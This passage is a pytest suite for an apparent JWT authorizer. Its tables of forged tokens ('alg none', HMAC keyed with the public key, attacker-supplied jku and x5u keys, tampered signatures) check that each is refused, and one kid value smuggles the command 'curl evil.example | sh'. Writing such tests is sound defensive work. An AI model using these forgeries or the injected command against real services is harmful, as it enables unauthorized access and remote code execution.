"""Whatever a caller sends: exactly `Unauthorized`, one log line of our own words, no needless fetch.

Each row of a table completes the sentence "a token is refused if ...", and says by which rule. The
tokens are put together from raw bytes; members of their JSON are given as JSON text, where `NOW+60`
is a time.
"""

import hashlib
import hmac
import json
import re
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import closing
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from auth.settings import ALGORITHMS
from tests.support.deployed import Deployment, Invocation, deployed
from tests.support.jwks_server import JwksServer, answer
from tests.support.tokens import AUDIENCE, ISSUER, SigningKey, b64, jwks, make_event, make_token

NO_TOKEN = "no bearer token"
TOO_LONG = "longer than 16384 bytes"
FORM = "not a bearer token of three base64url segments"
NOT_BASE64URL = "a segment is not base64url"
NOT_CANONICAL = "a segment is not canonical base64url"
NOT_JSON = "a segment is not strict JSON"
NOT_AN_OBJECT = "a segment is not a JSON object"
ALG = "alg is not in ALGORITHMS"
PARAMETER = "the header has a crit or b64 parameter"
TYP = "typ is not in TOKEN_TYPES"
KID = "kid is not a printable string"
UNKNOWN_KID = "the issuer has no key with this kid and alg"
SIGNATURE = "the signature does not match the key"
EXPIRED = "expired"
AUD = "aud is not in AUDIENCE"
ISS = "iss is not in TOKEN_ISSUER"
SUB = "sub has control characters"
SUB_TYPE = "sub is not a string"
NOBODY = "none of sub, client_id, azp names the caller"
CNF = "bound to a key (cnf), but presented as a bearer token"

Members = Mapping[str, str | None]

HEADER: Members = {"alg": '"RS256"', "kid": '"key-1"', "typ": '"JWT"'}
CLAIMS: Members = {
    "iss": f'"{ISSUER}"',
    "sub": '"client@clients"',
    "aud": f'"{AUDIENCE}"',
    "iat": "NOW-1",
    "exp": "NOW+3600",
    "scope": '"read:pets"',
}


def text(members: Members, changes: Members | bytes) -> bytes:
    """The JSON text of an object; a change to None takes a member out, one to bytes replaces it all."""
    if isinstance(changes, bytes):
        return changes
    pairs = (f'"{name}":{value}' for name, value in {**members, **changes}.items() if value is not None)
    now = int(time.time())
    return re.sub(r"NOW([+-]\d+)", lambda m: str(now + int(m[1])), f"{{{','.join(pairs)}}}").encode(
        "utf-8", "surrogatepass"
    )


def token_of(key: SigningKey, header: Members | bytes = {}, claims: Members | bytes = {}) -> str:  # noqa: B006
    return make_token(key, text(CLAIMS, claims), text(HEADER, header))


def credentials(value: object) -> dict[str, Any]:
    return make_event(None) | {"authorizationToken": value}


@pytest.fixture(scope="module")
def service(key: SigningKey) -> Iterator[Deployment]:
    with deployed(key) as deployment:
        yield deployment


Refused = Callable[..., None]


@pytest.fixture
def refused(service: Deployment, key: SigningKey) -> Refused:
    """Check all that may be seen of a refusal, by a new Lambda environment and by one that holds keys.

    `asks` is how often the issuer may be asked in a new one, and `asks_again` in the other.
    """

    def check(event: dict[str, Any], reason: str, *, asks: int = 0, asks_again: int = 0, **kid: str) -> None:
        service.start_cold()
        _check_answer(service.invoke(event), reason, kid)
        assert len(service.issuer.requests) == asks

        service.start_cold()
        service.invoke(make_event(make_token(key)))
        _check_answer(service.invoke(event), reason, kid)
        assert len(service.issuer.requests) == 1 + asks_again

    return check


def _check_answer(answer: Invocation, reason: str, kid: dict[str, str]) -> None:
    assert type(answer.error) is Exception
    assert str(answer.error) == "Unauthorized"
    assert answer.error.__cause__ is None
    assert answer.error.__suppress_context__
    # One line, and each word of it is ours.
    assert answer.log == [
        {
            "level": "INFO",
            "event": "decision",
            "outcome": "unauthorized",
            "reason": reason,
            "request_id": "request-1",
        }
        | kid
    ]
    assert answer.errors == ""


NOT_A_BEARER_TOKEN: dict[str, tuple[object, str]] = {
    "it is null": (None, NO_TOKEN),
    "it is a number": (7, NO_TOKEN),
    "it is a boolean": (True, NO_TOKEN),
    "it is an object": ({"Bearer": "a.b.c"}, NO_TOKEN),
    "it is a list of one good token": (["Bearer {token}"], NO_TOKEN),
    "it is a list of a million members": ([None] * 1_000_000, NO_TOKEN),
    "it is empty": ("", FORM),
    "it is one byte": ("B", FORM),
    "it is one space": (" ", FORM),
    "it is the scheme alone": ("Bearer", FORM),
    "it is the scheme and a space": ("Bearer ", FORM),
    "it is sixteen thousand spaces": ("Bearer" + " " * 16_000, FORM),
    "it is ten megabytes of one letter": ("Bearer " + "a" * 10_000_000, TOO_LONG),
    "it is ten megabytes of token": ("Bearer " + ".".join(["a" * 3_333_333] * 3), TOO_LONG),
    "it is ten megabytes of Unicode": ("\N{PILE OF POO}" * 2_500_000, TOO_LONG),
    "it is one byte longer than allowed": ("Bearer " + "a" * 16_381 + ".b.c", TOO_LONG),
    "it has no scheme": ("{token}", FORM),
    "its scheme is Basic": ("Basic {token}", FORM),
    "its scheme is DPoP": ("DPoP {token}", FORM),
    "its scheme only starts with Bearer": ("Bearerx {token}", FORM),
    "its scheme only ends with Bearer": ("XBearer {token}", FORM),
    "its scheme has full-width letters": ("\N{FULLWIDTH LATIN CAPITAL LETTER B}earer {token}", FORM),
    "its scheme stands twice": ("Bearer Bearer {token}", FORM),
    "its scheme is followed by a colon": ("Bearer: {token}", FORM),
    "its scheme is followed by no space": ("Bearer{token}", FORM),
    "its scheme is followed by a tab": ("Bearer\t{token}", FORM),
    "its scheme is followed by a no-break space": ("Bearer\xa0{token}", FORM),
    "its scheme is followed by a line break": ("Bearer\r\n {token}", FORM),
    "its space is percent-encoded": ("Bearer%20{token}", FORM),
    "a space stands before it": (" Bearer {token}", FORM),
    "a space stands after it": ("Bearer {token} ", FORM),
    "a line feed stands after it": ("Bearer {token}\n", FORM),
    "a forged log line stands after it": ('Bearer {token}\n{"level":"INFO"}', FORM),
    "another header stands after it": ("Bearer {token}\r\nX-Admin: 1", FORM),
    "a NUL stands after it": ("Bearer {token}\0", FORM),
    "a NUL stands in it": ("Bearer a\0.b.c", FORM),
    "a lone surrogate stands in it": ("Bearer a\ud800.b.c", FORM),
    "a letter beyond ASCII stands in it": ("Bearer a\u00e9.b.c", FORM),
    "a digit beyond ASCII stands in it": ("Bearer a\u0661.b.c", FORM),
    "a letter that is ASCII in upper case only stands in it": ("Bearer \u017f.b.c", FORM),
    "a comma and another token follow": ("Bearer {token}, Bearer {token}", FORM),
    "a space and another token follow": ("Bearer {token} {token}", FORM),
    "it is quoted": ('Bearer "{token}"', FORM),
    "it is a parameter": ("Bearer token={token}", FORM),
    "it is the JSON serialisation": ('Bearer {"payload":"e30","signatures":[]}', FORM),
    "it has the five parts of a JWE": ("Bearer e30.a.b.c.d", FORM),
    "it has four parts": ("Bearer {token}.e30", FORM),
    "it has two parts": ("Bearer e30.e30", FORM),
    "it has one part": ("Bearer e30", FORM),
    "it is dots": ("Bearer ..", FORM),
    "its header is empty": ("Bearer .e30.AAAA", FORM),
    "its payload is empty": ("Bearer e30..AAAA", FORM),
    "its signature is empty": ("Bearer e30.e30.", FORM),
    "it is padded": ("Bearer {token}=", FORM),
    "it has the alphabet of plain base64": ("Bearer a+b.c/d.efgh", FORM),
    "a space stands within a segment": ("Bearer e3 0.e30.AAAA", FORM),
}


@pytest.mark.parametrize(("value", "reason"), NOT_A_BEARER_TOKEN.values(), ids=NOT_A_BEARER_TOKEN)
def test_credentials_are_refused_if(refused: Refused, key: SigningKey, value: object, reason: str) -> None:
    if isinstance(value, str):
        value = value.replace("{token}", make_token(key))

    refused(credentials(value), reason)


def test_credentials_are_refused_if_they_are_absent(refused: Refused) -> None:
    event = make_event(None)
    del event["authorizationToken"]

    refused(event, NO_TOKEN)


HEADERS: dict[str, tuple[Members | bytes, str]] = {
    "its alg is none": ({"alg": '"none"'}, ALG),
    "its alg is None": ({"alg": '"None"'}, ALG),
    "its alg is NONE": ({"alg": '"NONE"'}, ALG),
    "its alg is nOnE": ({"alg": '"nOnE"'}, ALG),
    "its alg is empty": ({"alg": '""'}, ALG),
    "its alg is missing": ({"alg": None}, ALG),
    "its alg is null": ({"alg": "null"}, ALG),
    "its alg is a number": ({"alg": "256"}, ALG),
    "its alg is a list of the allowed one": ({"alg": '["RS256"]'}, ALG),
    "its alg is an object": ({"alg": '{"RS256":"RS256"}'}, ALG),
    "its alg is in lower case": ({"alg": '"rs256"'}, ALG),
    "its alg ends with a space": ({"alg": '"RS256 "'}, ALG),
    "its alg is a part of the allowed one": ({"alg": '"RS25"'}, ALG),
    "its alg is one that is not allowed here": ({"alg": '"RS384"'}, ALG),
    "its alg is one that we never allow": ({"alg": '"ES256K"'}, ALG),
    "its alg is one of encryption": ({"alg": '"RSA-OAEP"'}, ALG),
    "it has a crit of what we do not know": ({"crit": '["exp"]', "exp": "1"}, PARAMETER),
    "it has a crit of b64": ({"crit": '["b64"]', "b64": "false"}, PARAMETER),
    "it has an empty crit": ({"crit": "[]"}, PARAMETER),
    "it has a crit of null": ({"crit": "null"}, PARAMETER),
    "it has a b64 of false": ({"b64": "false"}, PARAMETER),
    "it has a b64 of true": ({"b64": "true"}, PARAMETER),
    "its typ is that of a logout token": ({"typ": '"logout+jwt"'}, TYP),
    "its typ is that of a DPoP proof": ({"typ": '"dpop+jwt"'}, TYP),
    "its typ is that of a security event": ({"typ": '"secevent+jwt"'}, TYP),
    "its typ is that of an ID token": ({"typ": '"id+jwt"'}, TYP),
    "its typ is ID, as Keycloak's ID tokens were": ({"typ": '"ID"'}, TYP),
    "its typ is a media type of another kind": ({"typ": '"text/jwt"'}, TYP),
    "its typ has its prefix twice": ({"typ": '"application/application/jwt"'}, TYP),
    "its typ has a parameter": ({"typ": '"at+jwt;v=1"'}, TYP),
    "its typ ends with a space": ({"typ": '"JWT "'}, TYP),
    "its typ is empty": ({"typ": '""'}, TYP),
    "its typ is null": ({"typ": "null"}, TYP),
    "its typ is a number": ({"typ": "1"}, TYP),
    "its typ is a list": ({"typ": '["JWT"]'}, TYP),
    "its kid is null": ({"kid": "null"}, KID),
    "its kid is empty": ({"kid": '""'}, KID),
    "its kid is a number": ({"kid": "1"}, KID),
    "its kid is a list of a good one": ({"kid": '["key-1"]'}, KID),
    "its kid ends with a line feed": ({"kid": r'"key-1\n"'}, KID),
    "its kid holds a NUL": ({"kid": r'"key-1\u0000"'}, KID),
    "its kid holds an escape of a terminal": ({"kid": r'"\u001b[2J"'}, KID),
    "its kid turns the direction of writing": ({"kid": r'"\u202ekey-1"'}, KID),
    "its kid holds a line separator": ({"kid": r'"a\u2028b"'}, KID),
    "its kid is a lone surrogate": ({"kid": r'"\ud800"'}, KID),
    "its kid is a megabyte": ({"kid": f'"{"k" * 1_000_000}"'}, TOO_LONG),
    "it says its alg twice": (b'{"alg":"none","kid":"key-1","alg":"RS256"}', NOT_JSON),
    "it says its alg twice, spelled differently": (
        rb'{"alg":"RS256","kid":"key-1","\u0061lg":"RS256"}',
        NOT_JSON,
    ),
    "a member stands twice, deep inside": ({"x": '[{"y":{"z":1,"z":1}}]'}, NOT_JSON),
    "an object follows it": (text(HEADER, {}) + b"{}", NOT_JSON),
    "a NUL follows it": (text(HEADER, {}) + b"\0", NOT_JSON),
    "a byte-order mark precedes it": (b"\xef\xbb\xbf" + text(HEADER, {}), NOT_JSON),
    "it is in UTF-16": (text(HEADER, {}).decode().encode("utf-16"), NOT_JSON),
    "it is in UTF-32 without a mark": (text(HEADER, {}).decode().encode("utf-32-be"), NOT_JSON),
    "it is not UTF-8": (text(HEADER, {})[:-1] + b',"x":"\xff"}', NOT_JSON),
    "it has half a character in UTF-8": ({"x": '"\ud800"'}, NOT_JSON),
    "it holds a NaN": ({"x": "NaN"}, NOT_JSON),
    "it holds an Infinity": ({"x": "-Infinity"}, NOT_JSON),
    "it ends too early": (text(HEADER, {})[:-1], NOT_JSON),
    "it has a comma too many": ({"x": "1,"}, NOT_JSON),
    "it has a comment": ({"x": "1/**/"}, NOT_JSON),
    "it has single quotes": (b"{'alg':'RS256','kid':'key-1'}", NOT_JSON),
    "it is eleven thousand lists deep": (b"[" * 11_000, NOT_JSON),
    "it is a list": (b"[]", NOT_AN_OBJECT),
    "it is a list of pairs": (b'[["alg","RS256"],["kid","key-1"]]', NOT_AN_OBJECT),
    "it is a string": (b'"RS256"', NOT_AN_OBJECT),
    "it is null": (b"null", NOT_AN_OBJECT),
    "it is empty": (b"", FORM),
    "it is a megabyte": ({"x": f'"{"x" * 1_000_000}"'}, TOO_LONG),
}


@pytest.mark.parametrize(("header", "reason"), HEADERS.values(), ids=HEADERS)
def test_a_header_is_refused_if(
    refused: Refused, key: SigningKey, header: Members | bytes, reason: str
) -> None:
    refused(make_event(token_of(key, header)), reason)


PAYLOADS: dict[str, tuple[Members | bytes, str]] = {
    **{f"{name} is missing": ({name: None}, f"{name} is missing") for name in ("exp", "iss", "aud")},
    **{f"{name} is null": ({name: "null"}, f"{name} is missing") for name in ("exp", "iss")},
    "aud is null": ({"aud": "null"}, AUD),
    "sub is missing": ({"sub": None}, NOBODY),
    "sub is null": ({"sub": "null"}, NOBODY),
    **{f"{name} is null": ({name: "null"}, f"{name} is not a number") for name in ("nbf", "iat")},
    **{
        f"{name} is {kind}": ({name: value}, reason or f"{name} is not a number")
        for name in ("exp", "nbf", "iat")
        for kind, value, reason in [
            ("a string", '"soon"', None),
            ("a list", "[NOW+3600]", None),
            ("an object", "{}", None),
            ("too large for a float", "1e400", None),
            ("too small for a float", "-1e400", None),
            ("not a number", "NaN", NOT_JSON),
            ("Infinity", "Infinity", NOT_JSON),
            ("minus Infinity", "-Infinity", NOT_JSON),
            ("written with a plus", "+1", NOT_JSON),
            ("written in hexadecimal", "0x7fffffff", NOT_JSON),
            ("a number of five thousand digits", "1" * 5000, NOT_JSON),
        ]
    },
    "exp is a string of digits": ({"exp": '"NOW+3600"'}, "exp is not a number"),
    "nbf is a string of digits": ({"nbf": '"0"'}, "nbf is not a number"),
    "iat is a string of digits": ({"iat": '"0"'}, "iat is not a number"),
    "nbf is true": ({"nbf": "true"}, "nbf is not a number"),
    "iat is false": ({"iat": "false"}, "iat is not a number"),
    "exp is true": ({"exp": "true"}, "exp is not a number"),
    "exp is zero": ({"exp": "0"}, EXPIRED),
    "exp is negative": ({"exp": "-1"}, EXPIRED),
    "exp is over by more than the leeway": ({"exp": "NOW-6"}, EXPIRED),
    "exp is over, as a float": ({"exp": "NOW-6.5"}, EXPIRED),
    "nbf is in the future": ({"nbf": "NOW+60"}, "not yet valid (nbf)"),
    "nbf is in the future, as a float": ({"nbf": "NOW+60.5"}, "not yet valid (nbf)"),
    "nbf is in the year ten thousand": ({"nbf": "253402300800"}, "not yet valid (nbf)"),
    "nbf has four thousand digits": ({"nbf": "1" * 4000}, "not yet valid (nbf)"),
    "iat is in the future": ({"iat": "NOW+60"}, "not yet valid (iat)"),
    "aud is another": ({"aud": '"https://another-api"'}, AUD),
    "aud is an empty string": ({"aud": '""'}, AUD),
    "aud is an empty list": ({"aud": "[]"}, AUD),
    "aud is a list of others": ({"aud": '["https://another-api","x"]'}, AUD),
    "aud is a nested list of ours": ({"aud": f'[["{AUDIENCE}"]]'}, AUD),
    "aud is a list of ours and a number": ({"aud": f'["{AUDIENCE}",7]'}, AUD),
    "aud is a list of ours and null": ({"aud": f'["{AUDIENCE}",null]'}, AUD),
    "aud is an object with ours as a member": ({"aud": f'{{"{AUDIENCE}":true}}'}, AUD),
    "aud is a number": ({"aud": "7"}, AUD),
    "aud is true": ({"aud": "true"}, AUD),
    "aud is a prefix of ours": ({"aud": f'"{AUDIENCE[:-1]}"'}, AUD),
    "aud starts with ours": ({"aud": f'"{AUDIENCE}/admin"'}, AUD),
    "aud is ours in upper case": ({"aud": f'"{AUDIENCE.upper()}"'}, AUD),
    "aud is ours and a space": ({"aud": f'"{AUDIENCE} "'}, AUD),
    "aud is ours among others in one string": ({"aud": f'"x {AUDIENCE}"'}, AUD),
    "aud is a wildcard": ({"aud": '"*"'}, AUD),
    "iss is another": ({"iss": '"https://evil.example/"'}, ISS),
    "iss lacks the slash at its end": ({"iss": f'"{ISSUER[:-1]}"'}, ISS),
    "iss has a slash too many": ({"iss": f'"{ISSUER}/"'}, ISS),
    "iss is ours in upper case": ({"iss": f'"{ISSUER.upper()}"'}, ISS),
    "iss is a part of ours": ({"iss": '"issuer.example"'}, ISS),
    "iss is one letter of ours": ({"iss": '"h"'}, ISS),
    "iss is an empty string": ({"iss": '""'}, ISS),
    "iss is a list of ours": ({"iss": f'["{ISSUER}"]'}, ISS),
    "iss is a number": ({"iss": "7"}, ISS),
    "sub is an empty string": ({"sub": '""'}, NOBODY),
    "sub holds a NUL": ({"sub": r'"a\u0000b"'}, SUB),
    "sub holds a line feed": ({"sub": r'"a\nb"'}, SUB),
    "sub holds a delete character": ({"sub": '"a\x7fb"'}, SUB),
    "sub holds a C1 control character": ({"sub": r'"a\u009bb"'}, SUB),
    "sub holds a lone surrogate": ({"sub": r'"a\ud800b"'}, SUB),
    "sub is a number": ({"sub": "7"}, SUB_TYPE),
    "sub is a list": ({"sub": '["client"]'}, SUB_TYPE),
    "sub is an object": ({"sub": "{}"}, SUB_TYPE),
    "sub is false": ({"sub": "false"}, SUB_TYPE),
    "sub is a megabyte": ({"sub": f'"{"s" * 1_000_000}"'}, TOO_LONG),
    "jti is a number": ({"jti": "7"}, "jti is not a string"),
    "cnf holds a key's thumbprint": ({"cnf": '{"jkt":"0ZcOCORZNYy-DWpqq30jZyJGHTN0d2HglBV3uiguA4I"}'}, CNF),
    "cnf is null": ({"cnf": "null"}, CNF),
    "sub stands twice": (text(CLAIMS, {})[:-1] + b',"sub":"admin"}', NOT_JSON),
    "sub stands twice, spelled differently": (text(CLAIMS, {r"\u0073ub": '"admin"'}), NOT_JSON),
    "a member stands twice, deep inside": ({"x": '[{"y":{"z":1,"z":1}}]'}, NOT_JSON),
    "a claim that we do not read is a NaN": ({"x": "NaN"}, NOT_JSON),
    "an object follows it": (text(CLAIMS, {}) + b"{}", NOT_JSON),
    "a byte-order mark precedes it": (b"\xef\xbb\xbf" + text(CLAIMS, {}), NOT_JSON),
    "it is in UTF-16": (text(CLAIMS, {}).decode().encode("utf-16"), NOT_JSON),
    "it is in UTF-32 without a mark": (text(CLAIMS, {}).decode().encode("utf-32-be"), NOT_JSON),
    "it is not UTF-8": (text(CLAIMS, {})[:-1] + b',"x":"\xff"}', NOT_JSON),
    "it is eleven thousand lists deep": (b"[" * 11_000, NOT_JSON),
    "it is a list": (b"[]", NOT_AN_OBJECT),
    "it is a string": (b'"client@clients"', NOT_AN_OBJECT),
    "it is a number": (b"7", NOT_AN_OBJECT),
    "it is null": (b"null", NOT_AN_OBJECT),
    "it is a token itself": (b"e30.e30.AAAA", NOT_JSON),
    "it is empty": (b"", FORM),
    "it is a megabyte": ({"x": f'"{"x" * 1_000_000}"'}, TOO_LONG),
}


@pytest.mark.parametrize(("claims", "reason"), PAYLOADS.values(), ids=PAYLOADS)
def test_a_payload_is_refused_if(
    refused: Refused, key: SigningKey, claims: Members | bytes, reason: str
) -> None:
    refused(make_event(token_of(key, claims=claims)), reason)


def segments(token: str) -> tuple[str, str, str]:
    header, payload, signature = token.split(".")
    return header, payload, signature


def with_other_text(segment: str) -> str:
    """Another text that most decoders read as the same octets: the bits that are left over are set."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    assert len(segment) % 4 > 1
    return segment[:-1] + alphabet[alphabet.index(segment[-1]) + 1]


@pytest.mark.parametrize("position", [0, 1, 2], ids=["header", "payload", "signature"])
def test_a_segment_is_refused_if_it_is_not_the_one_text_of_its_octets(
    refused: Refused, key: SigningKey, position: int
) -> None:
    parts = list(segments(token_of(key, _two_octets_over(HEADER), _two_octets_over(CLAIMS))))
    parts[position] = with_other_text(parts[position])

    refused(make_event(".".join(parts)), NOT_CANONICAL)


def _two_octets_over(members: Members) -> bytes:
    octets = text(members, {})
    return octets + b" " * ((2 - len(octets)) % 3)


@pytest.mark.parametrize("position", [0, 1, 2], ids=["header", "payload", "signature"])
def test_a_segment_is_refused_if_no_octets_have_its_length(
    refused: Refused, key: SigningKey, position: int
) -> None:
    parts = list(segments(make_token(key)))
    parts[position] += "A" * ((1 - len(parts[position])) % 4)

    refused(make_event(".".join(parts)), NOT_BASE64URL)


Signed = Callable[[SigningKey, SigningKey], str]
"""Makes a token of the issuer's key and a stranger's that goes by the same name."""


def signed_by(sign: Callable[[SigningKey, bytes], bytes]) -> Signed:
    """A token whose signature is whatever `sign` makes of the issuer's key and the signing input."""

    def make(key: SigningKey, stranger: SigningKey) -> str:
        signing_input = make_token(key).rpartition(".")[0]
        return f"{signing_input}.{b64(sign(key, signing_input.encode()))}"

    return make


def rsa_numbers(key: SigningKey) -> rsa.RSAPublicNumbers:
    assert isinstance(key.private, rsa.RSAPrivateKey)
    return key.private.public_key().public_numbers()


def with_part_of_another(position: int) -> Signed:
    def make(key: SigningKey, stranger: SigningKey) -> str:
        parts = list(segments(make_token(key)))
        other = segments(token_of(key, {"typ": '"at+jwt"'}, {"sub": '"admin"'}))
        parts[position] = other[position]
        return ".".join(parts)

    return make


SIGNATURES: dict[str, Signed] = {
    "it is a stranger's, by the same kid": lambda key, stranger: make_token(stranger),
    "it is one byte": signed_by(lambda key, data: b"\0"),
    "it lacks its last byte": signed_by(lambda key, data: key.sign(data)[:-1]),
    "it lacks its first byte": signed_by(lambda key, data: key.sign(data)[1:]),
    "a zero follows it": signed_by(lambda key, data: key.sign(data) + b"\0"),
    "a zero precedes it": signed_by(lambda key, data: b"\0" + key.sign(data)),
    "it stands twice": signed_by(lambda key, data: 2 * key.sign(data)),
    "one bit of it is turned": signed_by(
        lambda key, data: key.sign(data)[:-1] + bytes([key.sign(data)[-1] ^ 1])
    ),
    "it is all zeros": signed_by(lambda key, data: bytes(256)),
    "it is the number one": signed_by(lambda key, data: (1).to_bytes(256)),
    "it is the modulus": signed_by(lambda key, data: rsa_numbers(key).n.to_bytes(256)),
    "it is one less than the modulus": signed_by(lambda key, data: (rsa_numbers(key).n - 1).to_bytes(256)),
    "it is the bare digest": signed_by(lambda key, data: hashlib.sha256(data).digest()),
    "it is that of other data": signed_by(lambda key, data: key.sign(data + b"=")),
    "it is that of the payload alone": signed_by(lambda key, data: key.sign(data.partition(b".")[2])),
    "it is made with another hash": signed_by(lambda key, data: key.sign(data, "RS512")),
    "it is made with another padding": signed_by(lambda key, data: key.sign(data, "PS256")),
    "the header is that of another token": with_part_of_another(0),
    "the payload is that of another token": with_part_of_another(1),
    "the signature is that of another token": with_part_of_another(2),
}


@pytest.mark.parametrize("make", SIGNATURES.values(), ids=SIGNATURES)
def test_a_signature_is_refused_if(
    refused: Refused, key: SigningKey, stranger: SigningKey, make: Signed
) -> None:
    refused(make_event(make(key, stranger)), SIGNATURE, asks=1)


PUBLIC_KEY_AS_SECRET: dict[str, Callable[[SigningKey], bytes]] = {
    "PEM": lambda key: _public_bytes(key, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo),
    "PEM without its last line feed": lambda key: _public_bytes(
        key, Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    ).rstrip(),
    "PEM of PKCS 1": lambda key: _public_bytes(key, Encoding.PEM, PublicFormat.PKCS1),
    "DER": lambda key: _public_bytes(key, Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
    "DER of PKCS 1": lambda key: _public_bytes(key, Encoding.DER, PublicFormat.PKCS1),
    "OpenSSH": lambda key: _public_bytes(key, Encoding.OpenSSH, PublicFormat.OpenSSH),
    "JWK": lambda key: json.dumps(key.jwk()).encode(),
    "JWKS": jwks,
    "modulus": lambda key: rsa_numbers(key).n.to_bytes(256),
    "modulus in base64url": lambda key: key.jwk()["n"].encode(),
    "no octets": lambda key: b"",
}


def _public_bytes(key: SigningKey, encoding: Encoding, form: PublicFormat) -> bytes:
    return key.private.public_key().public_bytes(encoding, form)


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512", "RS256"])
@pytest.mark.parametrize("secret", PUBLIC_KEY_AS_SECRET.values(), ids=PUBLIC_KEY_AS_SECRET)
def test_the_public_key_is_no_secret_in_any_encoding(
    refused: Refused, key: SigningKey, secret: Callable[[SigningKey], bytes], alg: str
) -> None:
    """Under the name of HMAC, and of the algorithm that the key has."""
    signing_input = token_of(key, {"alg": f'"{alg}"'}).rpartition(".")[0]
    mac = hmac.digest(secret(key), signing_input.encode(), f"sha{alg[2:]}")
    event = make_event(f"{signing_input}.{b64(mac)}")

    if alg == "RS256":
        refused(event, SIGNATURE, asks=1)
    else:
        refused(event, ALG)


@pytest.mark.parametrize("member", ["jwk", "jku", "x5u", "x5c"])
def test_a_key_that_the_header_offers_is_not_used(
    refused: Refused, stranger: SigningKey, member: str
) -> None:
    with closing(JwksServer(answer(jwks(stranger)))) as attacker:
        offers = {
            "jwk": json.dumps(stranger.jwk()),
            "jku": json.dumps(attacker.url),
            "x5u": json.dumps(attacker.url),
            "x5c": json.dumps([stranger.jwk()["n"]]),
        }
        refused(make_event(token_of(stranger, {member: offers[member]})), SIGNATURE, asks=1)

        assert len(attacker.requests) == 0


UNKNOWN_KIDS = {
    "is in another case": "KEY-1",
    "has a space at its end": "key-1 ",
    "is a path": "../../../../../../dev/null",
    "is a URL": "https://evil.example/jwks.json",
    "is an SQL injection": "key-1' UNION SELECT 'secret",
    "is a command": "key-1; curl evil.example | sh",
    "is a format": "%s%n{0.__class__}",
    "would end the JSON of the log": '","level":"ERROR","x":"',
    "is not ASCII": "schl\u00fcssel-\N{KEY}",
    "is four thousand letters long": "k" * 4_000,
}


@pytest.mark.parametrize("kid", UNKNOWN_KIDS.values(), ids=UNKNOWN_KIDS)
def test_a_kid_is_unknown_and_its_first_64_characters_are_logged_if_it(
    refused: Refused, key: SigningKey, kid: str
) -> None:
    event = make_event(token_of(key, {"kid": json.dumps(kid)}))

    refused(event, UNKNOWN_KID, asks=1, asks_again=1, kid=kid[:64])


HARMLESS_HEADERS: dict[str, Members | bytes] = {
    "has no typ": {"typ": None},
    "has a typ in lower case": {"typ": '"jwt"'},
    "has the typ of RFC 9068": {"typ": '"at+jwt"'},
    "has the typ of RFC 9068 in upper case": {"typ": '"AT+JWT"'},
    "has the typ of RFC 9068 as a media type": {"typ": '"application/at+jwt"'},
    "has the typ as a media type in any case": {"typ": '"Application/JWT"'},
    "has the type of any JWS": {"typ": '"JOSE"'},
    "has a zip, which means nothing": {"zip": '"NONE"'},
    "has a zip that would mean something for a JWE": {"zip": '"DEF"'},
    "has no kid, since the issuer has one key": {"kid": None},
    "has members that we do not know": {"x5t": '"AAAA"', "cty": '"x"', "x": "[null,1.5,{}]"},
    "has white space": b' {\n"alg" : "RS256",\t"kid":"key-1" }\r\n',
    "has escapes": rb'{"\u0061lg":"\u0052S256","kid":"k\u0065y-1"}',
}


@pytest.mark.parametrize("header", HARMLESS_HEADERS.values(), ids=HARMLESS_HEADERS)
def test_a_header_is_accepted_that(service: Deployment, key: SigningKey, header: Members | bytes) -> None:
    service.start_cold()

    assert service.invoke(make_event(token_of(key, header))).error is None


HARMLESS_PAYLOADS: dict[str, Members | bytes] = {
    "has aud as a list of ours": {"aud": f'["{AUDIENCE}"]'},
    "has aud as a list of ours among others": {"aud": f'["https://another-api","{AUDIENCE}"]'},
    "has exp as a float": {"exp": "NOW+60.5"},
    "has exp in the year ten thousand": {"exp": "253402300800"},
    "has exp with an exponent": {"exp": "1e10"},
    "has an nbf in the past": {"nbf": "NOW-60"},
    "has an nbf of zero": {"nbf": "0"},
    "has an nbf before 1970": {"nbf": "-1.5"},
    "has no iat": {"iat": None},
    "has a jti": {"jti": '"7"'},
    "has a sub beyond ASCII": {"sub": '"J\u00fcrgen \u5c71"'},
    "has claims that we do not know": {"x": '[null,true,{"y":1e400}]'},
    "has white space": b"\n" + text(CLAIMS, {}).replace(b",", b" ,\t") + b"\r\n",
}


@pytest.mark.parametrize("claims", HARMLESS_PAYLOADS.values(), ids=HARMLESS_PAYLOADS)
def test_a_payload_is_accepted_that(service: Deployment, key: SigningKey, claims: Members | bytes) -> None:
    service.start_cold()

    assert service.invoke(make_event(token_of(key, claims=claims))).error is None


@pytest.mark.parametrize("scheme", ["Bearer ", "bearer ", "BEARER ", "Bearer   "])
def test_the_scheme_is_accepted_in_any_case(service: Deployment, key: SigningKey, scheme: str) -> None:
    assert service.invoke(credentials(scheme + make_token(key))).error is None


@pytest.fixture(scope="module")
def keys_by_alg() -> dict[str, SigningKey]:
    """A key for each algorithm, which the RSA ones share: it is its name that tells them apart."""
    pair = SigningKey.generate("RSA").private
    return {
        alg: SigningKey(alg, alg, pair) if alg[:2] in {"RS", "PS"} else SigningKey.generate(alg, alg)
        for alg in ALGORITHMS
    }


@pytest.mark.parametrize("alg", ALGORITHMS)
def test_an_algorithm_verifies_if_it_is_allowed_and_only_then(
    keys_by_alg: dict[str, SigningKey], alg: str
) -> None:
    tokens = {name: make_event(make_token(key)) for name, key in keys_by_alg.items()}
    with deployed(*keys_by_alg.values(), ALGORITHMS=alg) as service:
        assert service.invoke(tokens.pop(alg)).error is None

        if alg == "EdDSA":  # the older name of the same signatures
            assert service.invoke(tokens.pop("Ed25519")).error is None
        for event in tokens.values():
            _check_answer(service.invoke(event), ALG, {})


@pytest.mark.parametrize("alg", ALGORITHMS)
def test_a_key_is_used_with_its_own_algorithm_only(keys_by_alg: dict[str, SigningKey], alg: str) -> None:
    """Each other one is allowed too, and signed with that very key, if a key of its kind can."""
    key = keys_by_alg[alg]
    with deployed(*keys_by_alg.values(), ALGORITHMS=",".join(ALGORITHMS)) as service:
        for other in set(ALGORITHMS) - ({"EdDSA", "Ed25519"} if alg.startswith("Ed") else {alg}):
            signing_input = token_of(key, {"alg": f'"{other}"', "kid": f'"{alg}"'}).rpartition(".")[0]
